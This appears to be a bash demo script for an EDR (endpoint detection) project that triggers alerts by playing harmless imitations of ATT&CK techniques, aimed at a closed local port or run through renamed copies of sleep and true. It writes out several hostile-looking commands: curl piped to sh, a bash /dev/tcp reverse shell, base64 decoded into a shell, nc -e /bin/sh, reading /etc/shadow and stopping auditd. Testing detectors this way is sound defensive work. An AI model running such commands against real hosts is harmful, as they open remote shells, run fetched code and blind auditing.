#!/usr/bin/env bash
# Starts server and agent as run.sh does, and plays a dozen acts that look like
# an attack and harm nothing: copies of sleep and true under telling names, in
# a folder of their own that is removed again, and text that nothing obeys.
set -euo pipefail
cd "$(dirname "$0")/.."

stage=$(mktemp -d /tmp/edr-demo-XXXXXX)
cron=/etc/cron.d/edr-demo
played=()
clean() {
	trap - EXIT
	for pid in "${played[@]}"; do kill "$pid" 2>/dev/null || true; done
	rm -rf "$stage"
	[ ! -e "$cron" ] || rm -f "$cron"
	if [ -n "${run_pid:-}" ]; then
		kill "$run_pid" 2>/dev/null || true
		wait "$run_pid" 2>/dev/null || true
	fi
}
trap clean EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

./scripts/run.sh &
run_pid=$!
data=${DATA:-./data}
for _ in $(seq 300); do
	kill -0 "$run_pid" 2>/dev/null || exit 1
	# shellcheck disable=SC1091 # made by run.sh
	[ -e "$data/edrctl.env" ] && . "$data/edrctl.env" && ./edrctl get hosts 2>/dev/null | grep -q online && break
	sleep 0.2
done

act() { # act TECHNIQUE WHAT COMMAND...
	printf 'demo: %-10s %s\n' "$1" "$2"
	shift 2
	"$@" >/dev/null 2>&1 || true
	sleep 0.5
}
keep() { # as act, left running for somebody to kill
	printf 'demo: %-10s %s\n' "$1" "$2"
	shift 2
	"$@" >/dev/null 2>&1 &
	played+=("$!")
	sleep 0.5
}
copy() { cp "$(type -P "$1")" "$stage/$2"; }
script() { # script NAME TEXT: a program of that name that does TEXT
	printf '#!/bin/sh\n%s\n' "$2" >"$stage/$1"
	chmod +x "$stage/$1"
}

copy sleep xmrig
copy sleep updater
copy true powershell
copy true nc
copy bash nginx
copy bash winword
mkdir "$stage/.cache"

echo
keep T1496 "a miner by name (kill it from its alert)" "$stage/xmrig" 3600
keep T1204.002 "a program in a temporary folder" "$stage/updater" 3600
act T1059.001 "PowerShell with an encoded command" "$stage/powershell" -NoProfile -EncodedCommand ZQBjAGgAbwA=
act T1566.001 "an office program that starts a shell" "$stage/winword" -c 'sh -c id; :'
act T1505.003 "a web server that starts a shell" "$stage/nginx" -c 'sh -c id; :'
act T1105 "download and execute, of a port where nothing listens" sh -c 'curl -s -m 1 http://127.0.0.1:9/x.sh | sh'
act T1059.004 "a reverse shell's command line, to a port where nothing listens" bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'
act T1140 "decoded text piped into a shell" sh -c 'echo dHJ1ZQ== | base64 -d | sh'
act T1048 "netcat with a shell, by name alone" "$stage/nc" -e /bin/sh 127.0.0.1 9
act T1003.008 "reading of /etc/shadow's name only" sh -c 'ls -l /etc/shadow; : cat /etc/shadow'
act T1548.001 "a set-user-id bit on a copy in the demo's own folder" chmod u+s "$stage/updater"
act T1562.001 "the words that stop a guard, to echo" sh -c 'echo systemctl stop auditd'
if [ "$(id -u)" = 0 ] && [ -d /etc/cron.d ]; then
	act T1053.003 "a cron file with a comment" sh -c "echo '# edr demo, does nothing' >$cron"
	rm -f "$cron"
else
	echo "demo: T1053.003  left out: not root, or no /etc/cron.d"
fi
sleep 3
echo
./edrctl get alerts | cut -c1-120 || true
echo
echo "demo: the acts are played; the console shows them. Ctrl-C stops everything."
wait "$run_pid"
